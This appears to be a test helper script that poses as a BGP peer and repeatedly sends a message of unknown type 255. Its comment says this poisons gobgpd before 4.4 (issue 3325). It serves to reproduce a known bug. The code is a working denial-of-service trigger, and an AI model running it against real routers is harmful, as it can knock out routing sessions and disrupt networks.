#!/usr/bin/env node
/**
 * A peer that is poison to gobgpd before 4.4: once its session stands, it sends a header of unknown type (gobgp#3325).
 * Usage: poison-peer.js OWN-ADDRESS ITS-ADDRESS OWN-AS. Comes again and again, until it is killed.
 */
import { connect } from 'node:net';
import { KEEPALIVE, OPEN, readMessages, writeMessage, writeOpen } from '../../src/gobgp/bgp-message.js';
import { address } from '../../src/model/address.js';

const [own = '', its = '', asn = ''] = process.argv.slice(2);
const UNKNOWN_TYPE = 255;

function come(): void {
  const socket = connect({ host: its, port: 179, localAddress: own });
  socket.on('data', (data) => {
    for (const { type } of readMessages(data).messages) {
      if (type === OPEN) socket.write(writeOpen({ asn: Number(asn), routerId: address(own) }, 90));
      if (type === OPEN) socket.write(writeMessage(KEEPALIVE));
      if (type === KEEPALIVE) socket.write(writeMessage(UNKNOWN_TYPE));
    }
  });
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(come, 300));
}

come();
